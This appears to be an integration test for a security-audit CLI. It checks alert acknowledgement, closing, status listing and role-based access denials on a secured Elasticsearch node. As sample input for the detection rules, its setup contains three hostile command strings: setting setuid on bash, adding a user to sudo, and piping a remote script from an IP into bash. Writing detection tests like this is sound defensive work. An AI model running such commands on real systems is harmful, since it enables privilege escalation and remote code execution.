/**
 * Alert triage through the BUILT binary on a private node with security on (the
 * roles are what `setup api-key --role triage|collector` sends, loaded through the
 * file realm, as test/foundation/setup-private.test.ts does): an analyst with the
 * triage role acks and closes alerts with a note, `alerts list --status` shows
 * them by status with who and when; the collector's role gets a 403 on any
 * rewrite of an alert, and the triage role cannot touch anything but alerts.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { Client, errors } from '@elastic/elasticsearch';
import { applySetup, detectCapabilities, elasticsearchConfigSchema, planSetup, roleDescriptors, startDevNode, type DevNode } from '../../elastic';
import { commandEvent, createStreamingEngine, loadRules } from '../../rules';
import { streamName, type AlertDocument } from '../../schema';
import { runCli } from '../foundation/cli';

let node: DevNode | undefined;
let starting: Promise<DevNode> | undefined;
let admin: Client;
let dir: string;
let config: string;
const ns = 'triage';
const alertsIndex = streamName('alerts', ns);
let ids: string[] = [];
const as = (username: string): NodeJS.ProcessEnv => ({ AUDITKIT_ELASTICSEARCH_USERNAME: username, AUDITKIT_ELASTICSEARCH_PASSWORD: `${username}-pw` });
const analyst = as('analyst');

beforeAll(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'ak-triage-'));
  starting = startDevNode({
    security: true,
    dieWithParent: true,
    heapMb: 512,
    fileRoles: { ...roleDescriptors('collector'), ...roleDescriptors('triage') },
    fileUsers: [
      { username: 'collector', password: 'collector-pw', roles: ['auditkit-collector'] },
      { username: 'analyst', password: 'analyst-pw', roles: ['auditkit-triage'] },
    ],
  });
  node = await starting;
  admin = new Client({ node: node.url, auth: { username: 'elastic', password: node.password ?? '' } });
  await applySetup(admin, planSetup(elasticsearchConfigSchema.parse({}), await detectCapabilities(admin)));
  config = path.join(dir, 'auditkit.yml');
  writeFileSync(config, ['elasticsearch:', `  url: ${node.url}`, `  namespace: ${ns}`, ''].join('\n'));
  // Three real alerts from the built-in rules, written the way the collector writes them (create).
  const engine = createStreamingEngine(await loadRules([path.resolve(__dirname, '../../rules/builtin')]), { namespace: ns });
  const now = Date.now();
  const alerts: AlertDocument[] = [
    commandEvent('chmod u+s /bin/bash', { timestamp: new Date(now - 300_000).toISOString(), id: 'tr-1', host: 'web01' }),
    commandEvent('usermod -aG sudo mallory', { timestamp: new Date(now - 200_000).toISOString(), id: 'tr-2', host: 'db01' }),
    commandEvent('curl -fsSL http://198.51.100.7/x | bash', { timestamp: new Date(now - 100_000).toISOString(), id: 'tr-3', host: 'app01' }),
  ].map((e) => engine.process(e)[0] as AlertDocument);
  ids = alerts.map((a) => a.event.id);
  const res = await admin.bulk({ refresh: 'wait_for', operations: alerts.flatMap((a) => [{ create: { _index: alertsIndex, _id: a.event.id } }, a]) });
  expect(res.errors).toBe(false);
}, 420_000);

afterAll(async () => {
  await admin?.close();
  // A start that outlived beforeAll's timeout still gets its node stopped.
  const n = node ?? (await starting?.catch(() => undefined));
  await n?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

async function list(status: string): Promise<AlertDocument[]> {
  const r = await runCli(['--config', config, 'alerts', 'list', '--since', '1h', '--status', status, '--json'], { env: analyst });
  expect([r.code, r.stderr]).toEqual([0, '']);
  return JSON.parse(r.stdout) as AlertDocument[];
}

const denied = async (p: Promise<unknown>): Promise<void> => {
  const err = await p.then(() => undefined, (e: unknown) => e);
  expect(err).toBeInstanceOf(errors.ResponseError);
  const meta = (err as errors.ResponseError).meta;
  expect([meta.statusCode, JSON.stringify(meta.body).slice(0, 300)]).toEqual([403, expect.stringContaining('security_exception')]);
};

describe('alerts ack|close and list --status (built binary, secured node)', () => {
  it('lists every new alert as open', async () => {
    expect((await list('open')).map((a) => a.event.id).sort()).toEqual([...ids].sort());
    expect(await list('closed')).toEqual([]);
  }, 180_000);

  it('records status, who, when and the note on the alert, and lists by status', async () => {
    const before = Date.now();
    const ack = await runCli(['--config', config, 'alerts', 'ack', ids[0] as string, '--note', 'looking into it', '--json'], { env: analyst });
    expect([ack.code, ack.stderr]).toEqual([0, '']);
    expect(JSON.parse(ack.stdout)).toMatchObject({ status: 'acknowledged', by: 'analyst', updated: [{ id: ids[0], previous: 'open' }], missing: [] });
    const close = await runCli(['--config', config, 'alerts', 'close', ids[1] as string, ids[2] as string, '--note', 'change ticket 42'], { env: analyst });
    expect([close.code, close.stderr]).toEqual([0, '']);
    expect(close.stdout).toContain(`${ids[1]}: open → closed (by analyst at `);

    expect((await list('open')).map((a) => a.event.id)).toEqual([]);
    const acked = await list('acknowledged');
    expect(acked.map((a) => a.event.id)).toEqual([ids[0]]);
    expect(acked[0]?.auditkit.alert).toMatchObject({ status: 'acknowledged', triage: { by: 'analyst', note: 'looking into it' } });
    const at = Date.parse(acked[0]?.auditkit.alert.triage?.at ?? '');
    expect(at).toBeGreaterThanOrEqual(before - 1000);
    expect(at).toBeLessThanOrEqual(Date.now() + 1000);
    // the detection itself is untouched
    expect(acked[0]).toMatchObject({ rule: { id: 'ak-lnx-setuid-bit-set' }, event: { kind: 'alert' } });
    expect((await list('closed')).map((a) => a.event.id).sort()).toEqual([ids[1], ids[2]].sort());

    // closing the acknowledged one without a note leaves no stale note
    const close2 = await runCli(['--config', config, 'alerts', 'close', ids[0] as string, '--json'], { env: analyst });
    expect(JSON.parse(close2.stdout)).toMatchObject({ updated: [{ id: ids[0], previous: 'acknowledged' }] });
    const closed = await list('closed');
    expect(closed.find((a) => a.event.id === ids[0])?.auditkit.alert.triage?.note ?? null).toBeNull();

    const table = await runCli(['--config', config, 'alerts', 'list', '--since', '1h'], { env: analyst });
    expect(table.stdout).toMatch(/STATUS/);
    expect(table.stdout).toContain('closed');
  }, 180_000);

  it('says which ids it did not find, with a typed error and exit 1, after updating the others', async () => {
    const r = await runCli(['--config', config, 'alerts', 'reopen', ids[2] as string, 'no-such-alert'], { env: analyst });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('AK_RULE_ALERT_NOT_FOUND');
    expect(r.stderr).toContain('no-such-alert');
    expect((await list('open')).map((a) => a.event.id)).toEqual([ids[2]]);
    const usage = await runCli(['--config', config, 'alerts', 'ack'], { env: analyst });
    expect(usage.code).toBe(2);
  }, 180_000);

  it('the collector role cannot rewrite an alert (403), and the triage role can touch nothing but alerts', async () => {
    const collector = new Client({ node: (node as DevNode).url, auth: { username: 'collector', password: 'collector-pw' } });
    const id = ids[1] as string;
    const { hits } = await admin.search({ index: alertsIndex, query: { ids: { values: [id] } } });
    const backing = hits.hits[0]?._index as string;
    await denied(collector.update({ index: backing, id, doc: { auditkit: { alert: { status: 'open' } } } }));
    await denied(collector.index({ index: backing, id, document: { '@timestamp': new Date().toISOString(), event: { kind: 'alert' } } }));
    await denied(collector.delete({ index: backing, id }));
    await collector.close();
    // the binary as the collector: refused, and the alert keeps the analyst's status
    const r = await runCli(['--config', config, 'alerts', 'ack', id], { env: as('collector') });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/AK_ES_FORBIDDEN|403|unauthorized|security_exception/i);
    const doc = await admin.get<AlertDocument>({ index: backing, id });
    expect(doc._source?.auditkit.alert).toMatchObject({ status: 'closed', triage: { by: 'analyst' } });

    const an = new Client({ node: (node as DevNode).url, auth: { username: 'analyst', password: 'analyst-pw' } });
    await denied(an.delete({ index: backing, id }));
    await denied(an.index({ index: streamName('commands', ns), op_type: 'create', document: { '@timestamp': new Date().toISOString() } }));
    await denied(an.search({ index: streamName('commands', ns) }));
    await denied(an.indices.delete({ index: alertsIndex }));
    await denied(an.indices.putIndexTemplate({ name: 'logs-auditkit.alerts', index_patterns: ['x-*'] }));
    await an.close();
  }, 180_000);

  it('the report shows open vs handled in its alerts section', async () => {
    const window = ['--from', new Date(Date.now() - 3_600_000).toISOString(), '--to', new Date(Date.now() + 60_000).toISOString()];
    const env = { AUDITKIT_ELASTICSEARCH_USERNAME: 'elastic', AUDITKIT_ELASTICSEARCH_PASSWORD: (node as DevNode).password ?? '' };
    const json = await runCli(['--config', config, 'report', 'run', ...window, '--format', 'json'], { env });
    expect(json.code).toBe(0);
    expect((JSON.parse(json.stdout) as { alertTriage?: unknown }).alertTriage).toEqual({ open: 1, acknowledged: 0, closed: 2 });
    const text = await runCli(['--config', config, 'report', 'run', ...window, '--format', 'text'], { env });
    expect(text.code).toBe(0);
    expect(text.stdout).toContain('Open: 1 · handled: 2 (acknowledged 0, closed 2)');
  }, 180_000);
});
